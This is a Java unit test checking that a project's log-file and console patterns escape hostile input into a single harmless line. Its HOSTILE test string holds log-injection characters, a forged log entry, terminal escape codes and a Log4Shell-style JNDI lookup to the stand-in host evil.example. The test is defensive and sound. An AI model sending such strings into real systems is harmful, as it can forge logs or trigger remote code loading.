package dev.yagura.topology;

import static org.assertj.core.api.Assertions.assertThat;

import ch.qos.logback.classic.Level;
import ch.qos.logback.classic.LoggerContext;
import ch.qos.logback.classic.PatternLayout;
import ch.qos.logback.classic.spi.LoggingEvent;
import java.io.IOException;
import org.jspecify.annotations.Nullable;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;
import org.slf4j.LoggerFactory;

/** What comes from payloads and requests makes one line, of the log file and of the terminal. */
class LogEscapingTest {
  private static final String FILE = "file";
  private static final String HOSTILE =
      "one\n2026-01-01T00:00:00.000Z ERROR forged\r\u001b[31mred\u0000\t\u0085\u2028\u202e\u2066"
          + "${jndi:ldap://evil.example/a} {} %s %n";

  /** The pattern of the log files, or the one of the terminal. */
  private static String pattern(String where) {
    return where.equals(FILE) ? LogFiles.PATTERN : ConsoleLog.PATTERN;
  }

  private static String written(String pattern, @Nullable Throwable cause) {
    LoggerContext context = (LoggerContext) LoggerFactory.getILoggerFactory();
    PatternLayout layout = new PatternLayout();
    layout.setContext(context);
    layout.setPattern(pattern);
    layout.start();
    return layout.doLayout(
        new LoggingEvent(
            "x",
            context.getLogger("dev.yagura.test"),
            Level.WARN,
            "from a payload: {}",
            cause,
            new Object[] {HOSTILE}));
  }

  private static void isHarmless(String line) {
    assertThat(line).endsWith("\n");
    assertThat(line.substring(0, line.length() - 1).codePoints())
        .noneMatch(
            point ->
                Character.isISOControl(point)
                    || Character.getType(point) == Character.FORMAT
                    || Character.getType(point) == Character.LINE_SEPARATOR);
  }

  @ParameterizedTest
  @ValueSource(strings = {FILE, "terminal"})
  void a_message_is_one_line_and_nothing_in_it_is_understood(String where) {
    String line = written(pattern(where), null);
    isHarmless(line);
    assertThat(line).contains("WARN", "${jndi:ldap://evil.example/a} {} %s %n");
  }

  @Test
  void a_stack_trace_in_the_file_is_on_the_same_line() {
    String line = written(LogFiles.PATTERN, new IOException(HOSTILE));
    isHarmless(line);
    assertThat(line).contains("java.io.IOException", " | at dev.yagura");
  }
}
